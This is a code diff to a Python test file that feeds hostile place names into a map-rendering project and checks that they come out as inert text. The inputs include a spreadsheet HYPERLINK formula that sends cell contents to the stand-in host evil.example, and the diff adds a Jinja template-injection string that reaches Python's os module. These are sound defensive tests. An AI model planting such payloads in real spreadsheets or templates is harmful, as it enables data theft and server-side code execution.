@@ -23,6 +23,8 @@ from passages.scenarios import CoverageParameters
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 BIDI = "Lincoln\u202eloohcS hgiH\u202c"
 MATH = r"$\frac{1}{0}$ Academy $$ of \sqrt{$"
+#: Jinja template code: run, it would print "pwned" (and could run any Python).
+TEMPLATE = '{{ "pwn" ~ "ed" }}{% if true %}{{ "ran" ~ "-if" }}{% endif %}{{ cycler.__init__.__globals__.os.getcwd() }}'
 
 
 @pytest.fixture(scope="module")
@@ -31,15 +33,16 @@ def hostile_plan(sample_plans: dict[str, Plan]) -> Plan:
     plan = sample_plans["south-la"]
     assert isinstance(plan, Plan)
     places = plan.places.copy()
-    names = [FORMULA, BIDI, MATH, "+1 555 0100", "@SUM(A1:A9)", "-2+3"]
+    names = [FORMULA, BIDI, MATH, "+1 555 0100", "@SUM(A1:A9)", "-2+3", TEMPLATE]
     places["name"] = [names[i % len(names)] for i in range(len(places))]
     routes = plan.route_set.routes.copy()
     routes["origin_name"] = FORMULA
     routes["dest_name"] = [names[i % len(names)] for i in range(len(routes))]
     index = copy.copy(plan.index)
-    index.segment_name = np.array([MATH if i % 3 == 0 else name for i, name in enumerate(plan.index.segment_name)],
+    index.segment_name = np.array([MATH if i % 3 == 0 else TEMPLATE if i % 3 == 1 else name for i, name in enumerate(plan.index.segment_name)],
                                   dtype=object)
-    return dataclasses.replace(plan, places=places, index=index,
+    area = dataclasses.replace(plan.area, name=TEMPLATE)
+    return dataclasses.replace(plan, area=area, places=places, index=index,
                                route_set=dataclasses.replace(plan.route_set, routes=routes))
 
 
@@ -59,6 +62,16 @@ def _number(text: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def test_template_code_in_names_is_shown_on_the_map_never_run(hostile_plan: Plan) -> None:
+    """Names reach the map page as data: folium's elements must not compile them as Jinja."""
+    from passages.plan import plan_documents
+
+    page, _ = plan_documents(hostile_plan, tiles=False)
+    text = page.decode("utf-8")
+    assert "pwned" not in text and "ran-if" not in text and str(Path.cwd()) not in text
+    assert text.count("cycler.__init__") >= 3  # the area title, a place and a street name, as text
 
 
 def test_names_with_dollar_signs_are_printed_on_briefing_sheets(hostile_plan: Plan, tmp_path: Path) -> None:
